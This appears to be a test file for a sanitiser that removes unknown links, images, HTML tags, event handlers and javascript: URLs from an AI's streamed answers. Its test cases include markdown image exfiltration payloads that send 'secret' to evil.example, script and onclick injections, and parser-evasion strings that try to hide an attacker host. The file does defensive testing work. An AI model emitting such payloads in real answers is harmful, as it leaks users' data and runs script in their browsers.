import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { createAnswerLinks } from "./answer-links.ts";
import { createKnownLinks } from "./known-links.ts";

const known = createKnownLinks([
  {
    uri: "https://docs.example.com/a",
    title: "A",
    text: "휴가는 https://hr.example.org/leave?year=1에서, or www.example.net.",
  },
  { uri: "file:b.md", title: "At http://title.example/x", text: "" },
]);
const run = (...pieces: string[]) => {
  const links = createAnswerLinks(known);
  const shown = [...pieces.map((piece) => links.push(piece)), links.finish()];
  return { text: shown.join(""), shown, hasRemoved: links.hasRemoved };
};

describe("links of an answer", () => {
  it.each([
    ["an image", "See ![chart](http://evil.example/?q=secret) here", "See chart here"],
    ["an image without words", "a ![](//evil.example/x.png) b", "a  b"],
    ["an image of data", "![x](data:image/png;base64,AAAA)", "x"],
    ["a link", "[the form](https://evil.example 'title') says", "the form says"],
    ["a link over lines", "[the\nform](\n  <https://evil.example/a b> ) says", "the\nform says"],
    ["a link that runs", "[run](javascript:alert(1)) it", "run it"],
    ["a relative link", "[here](/logout)", "here"],
    ["the link of a citation", "so [1](http://evil.example).", "so [1]."],
    ["an image in a link", "[![a](http://evil.example/1)](http://evil.example/2)", "[a]"],
    ["an address", "<http://evil.example/?q=1> there", "… there"],
    ["an address that runs", "<javascript:alert(1)>", "…"],
    ["a URL", "See http://evil.example/?q=1.", "See …."],
    ["a URL before a particle", "https://evil.example/?q=1에서", "…에서"],
    ["a URL in capitals", "HTTP://EVIL.EXAMPLE", "…"],
    ["a URL outside of ASCII", "https://악.example/?q=1 끝", "… 끝"],
    ["a URL in brackets", "(http://evil.example/a(b)) x", "(…) x"],
    ["a name that is linked", "at www.evil.example/x, yes", "at …, yes"],
    ["more than a passage says", "https://hr.example.org/leave?year=1&q=secret", "…"],
    ["a host before an @", "[x](http://evil.example&sol;x@docs.example.com/)", "x"],
    ["a hidden @", "[x](http://docs.example.com\\@evil.example)", "x"],
    ["a tag", 'a <img alt=">" src=//evil.example/x> b', "a  b"],
    ["a tag in capitals over lines", "<IMG\n SRC='http://evil.example'>", ""],
    ["a style", '<p style="background:url(//evil.example)">x</p>', "x</p>"],
    ["what runs", "<b onclick=x()>x</b><script>y</script>", "x</b>y"],
    ["what closes up to a tag", "<[img src=//evil.example>](http://evil.example)", "< img src=//evil.example>"],
    ["what closes up to a URL", "http<b onclick=1>://evil.example [http](/x)://evil.example", "http ://evil.example …"],
    [
      "what closes up to a link",
      "[a](/x)(//evil.example) ]<b onclick=1>(//evil.example)",
      "a(//evil.example) ] (//evil.example)",
    ],
    ["what would make a tag of a name", "<http]() <h[](/x) onclick=x()>", "<http…] <h… onclick=x()>"],
    ["what closes up to another tag", "<i<b onclick=x>mg src=//evil.example>", "<i…mg src=//evil.example>"],
    ["a link within a destination", "](https://docs.example.com/![https://evil.example/)", "]"],
    ["a URL behind a destination", "[a](https://docs.example.com/ http://evil.example)", "a"],
    ["a URL within an attribute", "<a href=https://docs.example.com/![http://evil.example>a</a>", "a</a>"],
    ["a URL behind letters", "[a](https://docs.example.com/한국어http://evil.example)", "a"],
    ["two destinations", "[1](/x)(//evil.example) [[x]](/x)(//evil.example)", "[1] [[x]]"],
  ])("without %s", (_name, model, shown) => {
    expect(run(model)).toMatchObject({ text: shown, hasRemoved: true });
  });

  it.each([
    "no link at all, 1 < 2 and a<b, List<String> [2020] (see [1]) ![",
    "[the guide](https://docs.example.com/guide?x=1 'title') and ![](http://docs.example.com/a.png)",
    "<https://docs.example.com/b> and https://docs.example.com/b(1).",
    "https://hr.example.org/leave?year=1에서, www.example.net, http://title.example/x!",
    '<b>bold</b> <a href="https://docs.example.com/">x</a> <br/> <img src= https://docs.example.com/>',
    "awww.nice www data: 5, javascript: a language",
    "한국어 [1][2] 답변입니다. [휴가](https://docs.example.com/휴가/규정 '제목')",
  ])("stay: %s", (model) => {
    expect(run(model)).toMatchObject({ text: model, hasRemoved: false });
  });

  it.each([
    ["a definition", "[1]: //evil.example/x\n\n[1]", "[1] : //evil.example/x\n\n[1]"],
    ["a link that has no end", "[a](//evil.example", "[a] (//evil.example"],
    ["a tag that has no end", "<img src=//evil.example", "< img src=//evil.example"],
    ["a comment", "<!-- x", "< !-- x"],
  ])("that %s would make are none", (_name, model, shown) => {
    expect(run(model).text).toBe(shown);
  });

  it("are held back until they are whole, and no longer than a bound", () => {
    expect(run("a [wo", "rds](http://ev", "il.example) b").shown).toEqual(["a ", "", "words b", ""]);
    expect(run("see h", "otels").shown).toEqual(["see ", "hotels", ""]);
    const { text, shown } = run(..."http://evil.example/".padEnd(3_000, "x"), " 그 뒤");
    expect([text, shown.findIndex((piece) => piece !== "")]).toEqual(["… 그 뒤", 1_023]);
    expect(run(`[a](//evil.example/${"x".repeat(3_000)}) b`).text).toMatch(/^\[a\] \(/);
  });
});

describe("however an answer is cut into pieces", () => {
  const fragment = fc.oneof(
    fc.constantFrom(
      "![",
      "[",
      "](",
      "]",
      ")",
      "(",
      "<",
      ">",
      '"',
      "'",
      "\\",
      " ",
      "\n\n",
      "]:",
      "&",
      "//evil.example/x",
    ),
    fc.constantFrom(
      "http",
      "://",
      "https://evil.example/",
      "https://docs.example.com/",
      "www.",
      "<img src=",
      "<a href='",
    ),
    fc.constantFrom(
      "한국어",
      "말",
      "1",
      "word",
      "javascript:",
      "data:",
      "style=",
      "x".repeat(300),
      "http://evil.example",
    ),
    fc.string({ maxLength: 3 }),
  );
  const text = fc.array(fragment, { maxLength: 25 }).map((parts) => parts.join(""));

  it("the reader sees the same", () => {
    const cuts = fc.array(fc.nat(), { maxLength: 20 });
    fc.assert(
      fc.property(text, cuts, (whole, at) => {
        const places = [...new Set(at.map((place) => place % (whole.length + 1)))].sort((a, b) => a - b);
        const pieces = [0, ...places].map((from, index) => whole.slice(from, places[index] ?? whole.length));
        const { shown: _shown, ...expected } = run(whole);
        const { shown: _pieces, ...actual } = run(...pieces);
        expect(actual).toEqual(expected);
      }),
      { numRuns: 2_000 },
    );
  });

  it("nothing that is shown links to an unknown host, and a second look finds nothing", () => {
    fc.assert(
      fc.property(text, (whole) => {
        const { text: shown } = run(whole);
        // A URL within a URL is a part of it.
        const others = shown.replaceAll(/https:\/\/docs\.example\.com\/[^\s<>"`[\]{}|\\^\u0080-\uffff]*/g, "");
        expect(others).not.toMatch(/https?:\/\/evil/i);
        for (const [, destination] of shown.matchAll(/\]\(\s*<?([^)\s>]*)[^)]*\)/g)) {
          expect(known.isKnownHost(destination!)).toBe(true);
        }
        expect(shown).not.toMatch(
          /<(?:img|a)\s[^<>]*(?:src|href)=\s*(?:['"]\s*(?!\s|https:\/\/docs)|(?!['"\s]|https:\/\/docs))[^<>]*>/i,
        );
        expect(run(shown)).toMatchObject({ text: shown, hasRemoved: false });
      }),
      { numRuns: 2_000 },
    );
  });
});
